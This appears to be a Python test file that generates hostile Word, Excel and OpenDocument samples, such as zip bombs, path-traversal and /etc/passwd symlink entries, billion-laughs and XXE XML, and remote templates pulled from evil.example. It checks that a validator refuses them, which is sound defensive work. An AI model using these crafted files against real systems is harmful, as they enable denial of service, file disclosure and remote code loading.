"""Office files made to hurt."""

import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from foundation.documents.filetypes import OLE
from tests.documents.corpus_pdf import Entry
from tests.documents.files import make_exe
from tests.documents.office_files import (
    MAKERS,
    docx_parts,
    make_docx,
    make_linking_docx,
    make_odf,
    make_related_docx,
    make_xlsx,
    odf_parts,
    pack,
)

MB = 1024 * 1024
SEEDS: dict[str, Callable[[], bytes]] = dict(MAKERS)


def symbolic_link() -> bytes:
    """Return a letter with an entry that points out of its folder."""
    target = io.BytesIO(make_docx())
    with zipfile.ZipFile(target, "a") as package:
        link = zipfile.ZipInfo("word/media/image9.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        package.writestr(link, "../../../../etc/passwd")
    return target.getvalue()


def bomb(size: int = 300 * MB) -> bytes:
    return pack(docx_parts() | {"word/media/image1.bmp": bytes(size)})


def many_entries(count: int = 60_000) -> bytes:
    return pack(docx_parts() | {f"word/media/{number}": b"" for number in range(count)}, level=0)


def nested(depth: int) -> bytes:
    content = make_xlsx()
    for _ in range(depth):
        content = make_docx(**{"word/embeddings/sheet.docx": content})
    return make_docx(**{"word/embeddings/sheet.xlsx": make_xlsx()}) if depth == 0 else content


def overlapping(entries: int = 250, size: int = 20 * MB) -> bytes:
    """Return an archive whose entries all unpack the same bytes (the bomb of David Fifield, made simply)."""
    content = bytearray(make_docx(**{"word/media/kernel.bin": bytes(size)}))
    end = content.rindex(b"PK\x05\x06")
    (at,) = struct.unpack_from("<I", content, end + 16)
    listed = bytes(content[at:end])
    last = listed[listed.rindex(b"PK\x01\x02") :]
    names = (b"word/media/k%05d.bin" % number for number in range(entries))
    more = b"".join(last[:46] + name.ljust(len(last) - 46, b"_")[: len(last) - 46] for name in names)
    count = listed.count(b"PK\x01\x02") + entries
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(listed + more), at, 0)
    return bytes(content[:at]) + listed + more + tail


def other_name_inside() -> bytes:
    """Return an archive that calls an entry otherwise in the list than in front of its bytes."""
    content = bytearray(make_docx(**{"word/media/a.png": b"x"}))
    at = content.index(b"word/media/a.png")
    content[at : at + 16] = b"word/media/a.exe"
    return bytes(content)


def hidden_entry() -> bytes:
    """Return an archive with an entry that the list does not name, in front of all others."""
    first = pack({"evil.exe": make_exe()})
    return first[: first.index(b"PK\x01\x02")] + make_docx()


def wrong_sum() -> bytes:
    content = bytearray(make_docx())
    at = content.index(b"PK\x01\x02")
    for start in (content.index(b"PK\x03\x04") + 14, at + 16):
        content[start : start + 4] = b"\1\2\3\4"
    return bytes(content)


def said_smaller() -> bytes:
    """Return an archive whose list claims that 50 MB are 10 bytes."""
    content = bytearray(make_docx(**{"word/media/a.bin": bytes(50 * MB)}))
    at = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


def large_form(*, listed: bool) -> bytes:
    """Return an archive whose list, or only one entry, has sizes of eight bytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        for name, part in docx_parts().items():
            with package.open(name, "w", force_zip64=not listed) as entry:
                entry.write(part.encode() if isinstance(part, str) else part)
    content = target.getvalue()
    if not listed:
        return content
    end = content.rindex(b"PK\x05\x06")
    count, size, at = struct.unpack_from("<HII", content, end + 10)
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, at)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    return content[:end] + record + locator + content[end:]


def locked_entry() -> bytes:
    content = bytearray(make_docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.index(mark)
        content[at + place] |= 1
    return bytes(content)


def ole(*words: str) -> bytes:
    return OLE + bytes(504) + b"".join(word.encode("utf-16-le") + bytes(64) for word in words) + bytes(2048)


def with_xml(text: str) -> bytes:
    return pack(docx_parts() | {"word/document.xml": text})


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in itertools.pairwise("abcdefghi"))
    + "]><a>&i;</a>"
)
FETCH = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
DEEP = '<?xml version="1.0"?>' + "<a>" * 200_000 + "</a>" * 200_000
WIDE = '<?xml version="1.0"?><a ' + " ".join(f'b{n}="c"' for n in range(200_000)) + "/>"


def _zip(method: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as package:
        for name, content in docx_parts().items():
            package.writestr(name, content)
    return target.getvalue()


def _twice() -> bytes:
    content = pack(docx_parts() | {"word/documenu.xml": "<a/>"})
    return content.replace(b"word/documenu.xml", b"word/document.xml")


A, R = "accepted", "refused"
DAMAGED = "damaged or was cut off"
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
CASES: dict[str, Entry] = {
    **{f"a good {name}": (name, make, A, "") for name, make in MAKERS.items()},
    **{
        f"a Word file cut at {part:.0%}": (
            "a.docx",
            lambda part=part: make_docx()[: int(len(make_docx()) * part)],
            R,
            "",
        )
        for part in (0.05, 0.4, 0.8, 0.99)
    },
    "a Word file that unpacks to 300 MB": ("a.docx", bomb, R, "unpacks to far more"),
    "a Word file of 60,000 entries": ("a.docx", many_entries, R, "unpacks to far more"),
    "250 entries with the same bytes": ("a.docx", overlapping, R, DAMAGED),
    "an entry with another name in front": ("a.docx", other_name_inside, R, DAMAGED),
    "an entry that is not listed": ("a.docx", hidden_entry, R, ""),
    "an entry with a wrong sum": ("a.docx", wrong_sum, R, DAMAGED),
    "an entry that claims to be small": ("a.docx", said_smaller, R, ""),
    "an entry with a password": ("a.docx", locked_entry, R, "password"),
    "an entry twice": ("a.docx", _twice, R, DAMAGED),
    "an entry packed with bzip2": ("a.docx", partial(_zip, zipfile.ZIP_BZIP2), R, DAMAGED),
    "an entry above its folder": ("a.docx", lambda: make_docx(**{"../../evil.xml": "<a/>"}), R, DAMAGED),
    "an entry that is a symbolic link": ("a.docx", symbolic_link, R, DAMAGED),
    "an entry at the root": ("a.docx", lambda: make_docx(**{"/etc/passwd": "x"}), R, DAMAGED),
    "a table in a letter": ("a.docx", partial(nested, 0), A, ""),
    "a letter in a letter in a letter": ("a.docx", partial(nested, 3), R, "archive"),
    "an archive in a letter": ("a.docx", lambda: make_docx(**{"word/media/a.zip": pack({"a": "b"})}), R, "archive"),
    "a program in a letter": ("a.docx", lambda: make_docx(**{"word/media/image1.png": make_exe()}), R, "can run"),
    "a packed program in a letter": (
        "a.docx",
        lambda: make_docx(**{"word/embeddings/oleObject1.bin": ole("\1Ole10Native")}),
        R,
        "can carry programs",
    ),
    "an old diagram in a letter": (
        "a.docx",
        lambda: make_docx(**{"word/embeddings/oleObject1.bin": ole("CONTENTS")}),
        R,
        "object of another program",
    ),
    "an old diagram under a quiet name": (
        "a.docx",
        lambda: make_docx(**{"word/media/x.dat": ole("CONTENTS")}),
        R,
        "object of another program",
    ),
    "a template from the network": (
        "a.docx",
        partial(make_related_docx, "attachedTemplate", "http://evil.example/t.dotm"),
        R,
        "loads a template from elsewhere",
    ),
    "a template from another computer": (
        "a.docx",
        partial(make_related_docx, "attachedTemplate", "file:///\\\\evil\\share\\t.dotm"),
        R,
        "loads a template from elsewhere",
    ),
    "a template that is said to be inside": (
        "a.docx",
        partial(make_related_docx, "attachedTemplate", "https://evil.example/t.dotm", ""),
        R,
        "loads a template from elsewhere",
    ),
    "a template of the writer's own": (
        "a.docx",
        partial(make_related_docx, "attachedTemplate", "file:///C:%5CTemplates%5CLetter.dotx"),
        A,
        "",
    ),
    **{
        f"a {kind} from elsewhere": (
            "a.docx",
            partial(make_related_docx, kind, "http://evil.example/x"),
            R,
            "loads a part of itself",
        )
        for kind in ("oleObject", "frame", "subDocument", "aFChunk")
    },
    "a link in a letter": ("a.docx", partial(make_related_docx, "hyperlink", "https://court.example/"), A, ""),
    "an archive of the large form": ("a.docx", partial(large_form, listed=True), R, "ZIP64"),
    "an entry of the large form": ("a.docx", partial(large_form, listed=False), R, "ZIP64"),
    "macros in a letter": ("a.docx", lambda: make_docx(**{"word/vbaProject.bin": ole("VBA")}), R, "can run"),
    "a letter that says it has macros": ("a.docx", lambda: pack(docx_parts(main=MACRO)), R, "macros"),
    "macros in an OpenDocument": ("a.odt", lambda: pack(odf_parts() | {"Basic/Standard/M.xml": "<a/>"}), R, "can run"),
    "a control in a table": ("a.docx", lambda: make_docx(**{"word/activeX/activeX1.xml": "<a/>"}), R, "can run"),
    "a password on a Word file": ("a.docx", lambda: ole("EncryptionInfo", "EncryptedPackage"), R, "password"),
    "a password on an OpenDocument": (
        "a.odt",
        lambda: pack(odf_parts(entry='<manifest:encryption-data manifest:checksum="x"/>')),
        R,
        "password",
    ),
    "an old Word file under a new name": ("a.docx", lambda: ole("WordDocument"), R, "old kind"),
    "a table named as a letter": ("a.docx", make_xlsx, R, "something else"),
    "an OpenDocument named as Word": ("a.docx", make_odf, R, "something else"),
    "an archive named as Word": ("a.docx", lambda: pack({"a.txt": "b"}), R, "something else"),
    "an empty archive named as Word": ("a.docx", lambda: pack({}), R, ""),
    "XML that laughs a milliard times": ("a.docx", partial(with_xml, LAUGHS), R, DAMAGED),
    "XML that wants to fetch": ("a.docx", partial(with_xml, FETCH), R, DAMAGED),
    "XML of 200,000 levels": ("a.docx", partial(with_xml, DEEP), "", ""),
    "XML of 200,000 attributes": ("a.docx", partial(with_xml, WIDE), "", ""),
    "XML that is none": ("a.docx", partial(with_xml, "<a>"), R, DAMAGED),
    "a letter that points elsewhere": ("a.docx", partial(make_linking_docx, "http://evil.example"), A, ""),
    "a table of 300,000 cells": ("a.xlsx", partial(make_xlsx, 3000, 100), A, ""),
    "noise behind four letters": ("a.docx", lambda: b"PK\x03\x04" + zlib.compress(b"x" * 999) * 9, R, ""),
}
